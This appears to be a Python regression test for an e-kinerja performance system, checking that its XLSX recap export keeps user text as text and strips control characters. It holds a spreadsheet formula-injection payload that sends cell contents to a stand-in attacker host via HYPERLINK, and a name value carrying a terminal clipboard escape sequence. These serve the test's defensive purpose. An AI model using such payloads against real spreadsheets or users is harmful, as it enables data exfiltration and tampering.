"""The Rekap XLSX holds text as text (security finding 11): a JABATAN
"=HYPERLINK(...)" became a live formula in the atasan's spreadsheet, and a
control character in a name (a row from an old import) failed the export."""

import io

from ekinerja.penilaian.v1 import penilaian_pb2 as n
from ekinerja.profil.v1 import profil_pb2 as p
from google.protobuf.field_mask_pb2 import FieldMask
from openpyxl import load_workbook

from services.profil.store.models import PegawaiRow
from tests import data
from tests.api.penilaian.bantu import TAHUN_BUKA, skp_disetujui

FORMULA = '=HYPERLINK("https://jahat.example/?d="&A1,"Klik untuk detail")'


async def rekap(client) -> list[tuple]:
    """ENDANG's Rekap XLSX of SUTIKNO and WIDANANG; no cell of it is a formula."""
    await skp_disetujui(client)
    await skp_disetujui(client, nip=data.WIDANANG)
    endang = await client.login(nip=data.ENDANG)
    berkas = await client.penilaian.ExportRekapPenilaian(
        n.ListRekapPenilaianRequest(tahun=TAHUN_BUKA, periode=n.PERIODE_AKHIR_TAHUN), metadata=endang
    )
    ws = load_workbook(io.BytesIO(berkas.isi)).active
    assert [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"] == []
    return list(ws.iter_rows(min_row=5, values_only=True))


async def test_jabatan_berformula_tetap_teks(client):
    sutikno = await client.login(nip=data.SUTIKNO)
    await client.profil.UpdatePegawai(
        p.UpdatePegawaiRequest(
            pegawai=p.Pegawai(name=f"pegawai/{data.SUTIKNO}", jabatan=FORMULA), update_mask=FieldMask(paths=["jabatan"])
        ),
        metadata=sutikno,
    )
    baris = {r[1]: r for r in await rekap(client)}
    assert baris[data.SUTIKNO][3] == FORMULA


async def test_karakter_kendali_dibuang_bukan_internal(server, client):
    async with server.context.databases["profil"].transaction() as s:  # as an old import left it
        (await s.get(PegawaiRow, data.WIDANANG)).nama = "=1+1\x1b]52;c;eA==\x07WIDANANG"
    baris = {r[1]: r for r in await rekap(client)}
    assert baris[data.WIDANANG][2] == "=1+1]52;c;eA==WIDANANG"
